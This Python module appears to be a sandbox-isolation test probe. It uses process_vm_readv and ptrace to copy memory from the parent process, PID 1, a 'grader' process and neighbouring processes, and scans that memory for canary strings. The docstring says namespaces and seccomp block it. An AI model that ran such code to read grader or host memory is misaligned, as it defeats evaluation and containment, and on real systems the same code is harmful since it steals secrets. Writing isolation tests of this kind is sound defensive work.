"""Copy other processes' memory with process_vm_readv, and with a debugger's calls.

stopped by: namespaces, seccomp
proof: with the addresses known, the first of these calls is all that a debugger needs
"""

import ctypes
import os
import re

LIBC = ctypes.CDLL(None, use_errno=True)
PROCESS_VM_READV = 310 if os.uname().machine == "x86_64" else 270
PTRACE_ATTACH, PTRACE_PEEK, PTRACE_DETACH = 16, 2, 17


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def copy(pid, address, size):
    buffer = ctypes.create_string_buffer(size)
    here = Vector(ctypes.addressof(buffer), size)
    there = Vector(address, size)
    call = (ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    number = LIBC.syscall(PROCESS_VM_READV, ctypes.c_long(pid), *call)
    return buffer.raw[: max(0, number)]


def loot(places):
    found = b""
    # A worker is forked from its zygote: what lies here lies at the same address there.
    spots = {id(thing) & ~0xFFFFF for thing in (loot, places, re, os, ctypes, object())}
    for pid in (os.getppid(), 1, 2, places["grader"], os.getpid() - 1, os.getpid() + 1):
        for spot in spots:
            data = copy(pid, spot, 1 << 20)
            found += b" ".join(re.findall(rb"CANARY-\w+-\w{6}", data))
        if pid > 2 and LIBC.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            os.waitpid(pid, 0)
            LIBC.ptrace(PTRACE_DETACH, pid, None, None)
            found += b"attached"
    return found
